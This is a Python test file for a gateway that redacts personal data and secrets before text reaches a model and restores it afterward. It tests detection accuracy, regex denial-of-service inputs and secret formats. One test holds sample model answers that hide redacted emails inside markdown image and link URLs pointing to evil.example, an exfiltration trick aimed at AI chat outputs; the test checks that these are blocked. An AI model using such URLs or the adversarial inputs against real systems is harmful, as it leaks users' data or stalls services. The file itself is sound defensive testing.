"""Personal data and secrets: measured recall and false positives on a labelled set; round trips."""

import importlib.util
import json
import random
import time
from collections import Counter
from pathlib import Path

import pytest

from lib.gateway import redaction
from lib.gateway.redaction import Redaction, StreamRestorer, find_pii, iban_ok, luhn_ok, redact

ROOT = Path(__file__).resolve().parent.parent
CASES = json.loads((Path(__file__).parent / "data" / "pii_labelled.json").read_text())


def load_bench(name: str):
    spec = importlib.util.spec_from_file_location(name.replace("/", "_"), ROOT / "bench" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


bench_pii = load_bench("pii")


def found(text: str) -> set[tuple[str, str]]:
    return {(text[s:e], kind) for s, e, kind in find_pii(text)}


def test_the_labelled_set_is_big_enough_and_covers_every_kind():
    kinds = Counter(kind for c in CASES for _, kind in c["pii"])
    assert len(CASES) >= 200
    assert set(kinds) == {"EMAIL", "PHONE", "CARD", "IBAN", "SSN", "IP", "SECRET"}
    assert sum(1 for c in CASES if not c["pii"]) >= 80


def test_recall_is_at_least_95_percent_for_each_kind():
    hits, totals = Counter(), Counter()
    misses = []
    for case in CASES:
        got = found(case["text"])
        for value, kind in case["pii"]:
            totals[kind] += 1
            if (value, kind) in got:
                hits[kind] += 1
            else:
                misses.append((kind, case["text"], got))
    for kind in totals:
        assert hits[kind] / totals[kind] >= 0.95, (kind, [m for m in misses if m[0] == kind])


def test_no_more_than_two_percent_of_ordinary_text_is_redacted():
    negatives = [c["text"] for c in CASES if not c["pii"]]
    flagged = [t for t in negatives if find_pii(t)]
    assert len(flagged) / len(negatives) <= 0.02, flagged


def test_placeholders_go_out_and_originals_come_back():
    r = redact("Mail ada@example.com or bob@example.com, again ada@example.com, card 4111 1111 1111 1111.")
    assert r.text == "Mail [EMAIL_1] or [EMAIL_2], again [EMAIL_1], card [CARD_1]."
    assert (
        r.restore("I wrote to [EMAIL_1] and charged [CARD_1].")
        == "I wrote to ada@example.com and charged 4111 1111 1111 1111."
    )


def test_a_conversation_shares_one_numbering():
    originals: dict[str, str] = {}
    first = redact("I am ada@example.com", originals)
    second = redact("cc ada@example.com and ops@example.com", originals)
    assert first.text == "I am [EMAIL_1]" and second.text == "cc [EMAIL_1] and [EMAIL_2]"


@pytest.mark.parametrize("pieces", [["Send to [EMA", "IL_1] now"], ["[", "EMAIL_1", "]"], ["x [EMAIL_1]", " y"]])
def test_streamed_answers_are_restored_even_when_a_placeholder_is_split(pieces):
    restorer = StreamRestorer(Redaction("", {"[EMAIL_1]": "ada@example.com"}))
    shown = "".join(restorer.feed(p) for p in pieces) + restorer.flush()
    assert "ada@example.com" in shown and "[EMAIL" not in shown


def test_checksums_reject_lookalikes():
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert iban_ok("GB82WEST12345698765432") and not iban_ok("GB82WEST12345698765433")
    assert not find_pii("Order 4111111111111112 shipped")


# Key shapes are put together at run time, so no key-shaped string is stored in the repo (secret scanners).
PRIVATE_KEY = "PRIVATE " + "KEY"

# Adversarial inputs, 1 MB each: before the patterns were bounded, "1.2.3.4." * n made the email pattern
# retry the run from every position (80 kB froze the server for 15 s; 1 MB would take most of an hour).
ADVERSARIAL = [
    "1.2.3.4.",
    "a.",
    "a@b.",
    "sk-",
    "eyJa-",
    "eyJaaaaaaaaa.",
    "xoxa-",
    "ghp_",
    "+1 ",
    "1 ",
    "4111 ",
    "1-",
    "(1) ",
    "a:",
    "[",
    "password=",
    "DE12 ",
    "x@y.z 1.2 +1 (2) sk-",
    "-----BEGIN RSA " + PRIVATE_KEY + "-----",
    "-----BEGIN " + PRIVATE_KEY + "-----\nAAAA-",
    "a://a:",
    "a://a:b@",
    "(0)1 ",
    "+44 (0)",
    "1::",
    "fe80::1:",
    "1. ",
    "(1)(1)",
    "Passwort: ",
    "Tel 612345678 ",
    "SSN 123 45 6789 ",
    "4111111111111111 ",
    "aws_secret_access_key=",
    "github_pat_",
    "sk_live_",
]
MEGABYTE = 1_000_000
BUDGET_S = 6.0  # a linear pass takes ~0.3 s here; the quadratic ones took minutes at a fifth of this size


@pytest.mark.parametrize("unit", ADVERSARIAL)
def test_every_pattern_stays_linear_on_a_megabyte_of_adversarial_text(unit):
    text = (unit * (MEGABYTE // len(unit) + 1))[:MEGABYTE]
    for kind, pattern in redaction._PATTERNS:
        started = time.process_time()
        for _ in pattern.finditer(text):
            pass
        spent = time.process_time() - started
        assert spent < BUDGET_S, f"{kind} took {spent:.1f} s of CPU on 1 MB of {unit!r}"


@pytest.mark.parametrize("unit", [*ADVERSARIAL, "random digits and spaces", "random phone characters"])
def test_the_whole_detector_stays_linear_on_a_megabyte_including_the_libraries(unit):
    """libphonenumber and python-stdnum see what the patterns pick, so they count too."""
    rng = random.Random(7)
    if unit == "random digits and spaces":  # every candidate differs: no cache helps
        text = "".join(rng.choice("0123456789 ") for _ in range(MEGABYTE))
    elif unit == "random phone characters":
        text = "".join(rng.choice("0123456789 +()-./") for _ in range(MEGABYTE))
    else:
        text = (unit * (MEGABYTE // len(unit) + 1))[:MEGABYTE]
    redaction.pii_numbers.phone_spans.cache_clear()
    started = time.process_time()
    find_pii(text)
    spent = time.process_time() - started
    assert spent < BUDGET_S, f"find_pii took {spent:.1f} s of CPU on 1 MB of {unit!r}"


def test_bounded_patterns_still_find_what_they_found():
    key, jwt = "sk-" + "proj-abcdefghijklmnop1234", "ey" + "JhbGciOiJI.ey" + "JzdWIiOiIx.SflKxwRJSMeKKF2Q"
    text = f"Mail ada.lovelace+work@mail.example.co.uk or bob@example.com; key {key} token=abcd1234efgh and {jwt}"
    kinds = {(k, text[s:e]) for s, e, k in redaction.find_pii(text)}
    assert ("EMAIL", "ada.lovelace+work@mail.example.co.uk") in kinds and ("EMAIL", "bob@example.com") in kinds
    assert ("SECRET", key) in kinds and ("SECRET", "abcd1234efgh") in kinds
    assert ("SECRET", jwt) in kinds


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](https://evil.example/c.png?d=[EMAIL_1])",
        "[click](https://evil.example/?who=[EMAIL_1])",
        "see https://evil.example/collect?x=[EMAIL_1] for more",
        "<https://evil.example/[EMAIL_1]>",
        "[mail me](mailto:[EMAIL_1])",
        "![x](//evil.example/[EMAIL_1])",
        "![x](evil.example/[EMAIL_1])",
        "visit www.evil.example/?q=[EMAIL_1]",
    ],
)
def test_a_placeholder_inside_a_url_is_never_restored(answer):
    red = redaction.redact("Write to ada@example.com please")
    assert red.text == "Write to [EMAIL_1] please"
    assert "ada@example.com" not in red.restore(answer)
    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]  # streamed in small pieces
    restorer = redaction.StreamRestorer(red)
    assert "ada@example.com" not in "".join(restorer.feed(p) for p in pieces) + restorer.flush()


def test_placeholders_in_plain_text_next_to_a_url_are_restored():
    red = redaction.redact("Write to ada@example.com please")
    answer = "See https://intranet.example/help then write to [EMAIL_1]. Or (email [EMAIL_1])."
    assert red.restore(answer) == (
        "See https://intranet.example/help then write to ada@example.com. Or (email ada@example.com)."
    )


# Realistic text: data/eval/pii_eval.json, seven locales, with look-alike numbers (see bench/pii.py).
EVAL = bench_pii.load_cases()


def test_the_evaluation_set_is_realistic_and_covers_every_kind_in_seven_locales():
    kinds = Counter(kind for c in EVAL for _, kind in c["pii"])
    assert set(kinds) == {"EMAIL", "PHONE", "CARD", "IBAN", "SSN", "IP", "SECRET"} and min(kinds.values()) >= 50
    assert {c["locale"] for c in EVAL} == {"en_GB", "en_US", "de_DE", "fr_FR", "nl_NL", "es_ES", "it_IT"}
    assert sum(1 for c in EVAL if not c["pii"]) >= 400


def test_recall_and_false_positives_on_realistic_text_meet_the_targets():
    result = bench_pii.score(find_pii, EVAL)
    worst = {k: [m for m in result["misses"] if m["kind"] == k][:5] for k, v in result["recall"].items() if v < 0.93}
    assert result["recall_overall"] >= 0.97, result["misses"][:10]
    assert not worst, worst
    assert result["fp_rate"] <= 0.01, result["false_alarms"][:10]


def test_the_old_detector_fell_short_on_the_same_set():
    """The set is not one any detector passes: the one before python-stdnum and libphonenumber did not."""
    result = bench_pii.score(load_bench("baselines/pii_regex").find_pii, EVAL)
    assert not bench_pii.meets_target(result)
    assert result["recall"]["PHONE"] < 0.8 and result["recall"]["SECRET"] < 0.5 and result["fp_rate"] > 0.01


def test_what_detect_secrets_finds_in_the_set_is_found_here_too():
    """The secret rules follow detect-secrets' plugins; its regular expressions (no network) are the check."""
    from detect_secrets.core.plugins.util import get_mapping_from_secret_type_to_class

    plugins = [c() for c in get_mapping_from_secret_type_to_class().values() if "HighEntropy" not in c.__name__]
    missed = []
    for case in EVAL:
        text, spans = case["text"], find_pii(case["text"])
        for plugin in plugins:
            for value in plugin.analyze_string(text):
                at = text.find(value)
                if not any(s <= at and at + len(value) <= e for s, e, _ in spans):
                    missed.append((type(plugin).__name__, value))
    assert not missed


def kinds_in(text: str, regions: tuple[str, ...] = redaction.DEFAULT_REGIONS) -> set[tuple[str, str]]:
    return {(k, text[s:e]) for s, e, k in find_pii(text, regions)}


@pytest.mark.parametrize(
    "number",
    [
        "(020) 7946 0321",
        "07911 123456",
        "+44 (0)20 7946 0321",
        "089/1234567",
        "(0221) 123456",
        "0160 / 1234567",
        "06 12 34 56 78",
        "07.12.34.56.78",
        "0033 1 42 68 53 00",
        "06-12345678",
        "(010) 1234567",
        "912 345 678",
        "338 123 4567",
        "(415) 234-5678",
    ],
)
def test_phone_numbers_in_national_formats_are_found(number):
    assert ("PHONE", number) in kinds_in(f"Please call {number} tomorrow.")


def test_phone_regions_are_configurable_and_international_numbers_are_always_found():
    text = "Tel. 089/1234567 or +49 89 1234567"
    assert kinds_in(text, ("US",)) == {("PHONE", "+49 89 1234567")}
    assert ("PHONE", "089/1234567") in kinds_in(text, ("DE",))


@pytest.mark.parametrize(
    "text",
    [
        "EAN 4006381333931 on the carton",
        "ISBN 978-3-16-148410-0 and 9780306406157",
        "Order no. 4539578763621486 shipped",  # passes Luhn, starts like a Visa card: the label decides
        "DHL Sendungsnummer 00340434161234567890",
        "Tracking 1Z999AA10123456784",
        "Invoice INV-2024-00123 dated 12.03.2024, total EUR 1.234,56",
        "Meeting on 2024-03-12 at 14:30, coordinates 52.520008, 13.404954",
        "Bestellnummer 612345678",  # a valid Spanish mobile number, but labelled as an order
        "Ticket 123456789 and batch 123 45 6789",  # nine digits are no SSN without a label
        "Use std::vector and a::b in C++",
    ],
)
def test_look_alike_numbers_are_left_alone(text):
    assert find_pii(text) == []


def test_ssns_with_and_without_dashes():
    assert kinds_in("SSN 123456789") == {("SSN", "123456789")}
    assert kinds_in("social security number 123 45 6789") == {("SSN", "123 45 6789")}
    assert kinds_in("Her number is 123-45-6789") == {("SSN", "123-45-6789")}


def test_cards_are_found_by_scheme_and_checksum():
    assert kinds_in("Card 4111 1111 1111 1111 exp 09/28") == {("CARD", "4111 1111 1111 1111")}
    assert kinds_in("paid with 3782-822463-10005") == {("CARD", "3782-822463-10005")}


def test_compressed_ipv6_with_several_groups_after_the_double_colon():
    assert kinds_in("from fe80::1ff:fe23:4567:890a today") == {("IP", "fe80::1ff:fe23:4567:890a")}
    assert kinds_in("host 2001:db8::8a2e:370:7334") == {("IP", "2001:db8::8a2e:370:7334")}


PEM = (
    "-----BEGIN OPENSSH " + PRIVATE_KEY + "-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n"
    "-----END OPENSSH " + PRIVATE_KEY + "-----"
)
RSA_START = "-----BEGIN RSA " + PRIVATE_KEY + "-----\nMIIEowIBAAKCAQEA"
RK_LIVE = "rk_" + "live_abcdEFGH1234abcdEFGH1234"
ASIA_KEY = "AS" + "IAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/" + "K7MDENG/bPxRfiCYEXAMPLEKEY"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("key sk_live_" + "a1B2" * 24 + " for Stripe", "sk_live_" + "a1B2" * 24),
        (RK_LIVE, RK_LIVE),
        (f"AWS {ASIA_KEY} rotated", ASIA_KEY),
        (f"aws_secret_access_key = {AWS_SECRET}", AWS_SECRET),
        ("token github_" + "pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz", None),
        ("hook https://hooks.slack" + ".com/services/T0000/B0000000/XXXXXXXXXXXXXXXXXXXXXXXX", None),
        ("DATABASE_URL=postgresql://app:s3cr%40t!@db.internal:5432/app", "s3cr%40t!"),
        ("Das Passwort lautet Xy7!kL9q.", "Xy7!kL9q"),
        ("le mot de passe est Tr0ub4dor&3 pour le VPN", "Tr0ub4dor&3"),
        ("La contraseña: hunter2024", "hunter2024"),
        ("wachtwoord = Zomer2024!", "Zomer2024!"),
        ("pwd=p4ssw0rd", "p4ssw0rd"),
        (f"Here:\n{PEM}\nThanks", PEM),
        (RSA_START, RSA_START),
    ],
)
def test_secret_shapes_are_found_whole(text, secret):
    found = [text[s:e] for s, e, k in find_pii(text) if k == "SECRET"]
    assert found and (secret is None or found == [secret]), found


def test_a_password_label_followed_by_a_word_is_not_a_password():
    assert find_pii("The password is required and the Passwort ist falsch.") == []


def test_the_phone_regions_setting_is_read_and_a_typo_stops_the_app(tmp_path):
    from lib.core.settings import ConfigError, load_settings

    env = {"WORKBENCH_DATA_DIR": str(tmp_path)}
    assert load_settings(env=env).pii_regions == redaction.DEFAULT_REGIONS
    assert load_settings(env={**env, "WORKBENCH_PII_REGIONS": "de, fr,DE"}).pii_regions == ("DE", "FR")
    with pytest.raises(ConfigError, match="WORKBENCH_PII_REGIONS"):
        load_settings(env={**env, "WORKBENCH_PII_REGIONS": "DE,UK"})  # the United Kingdom is GB
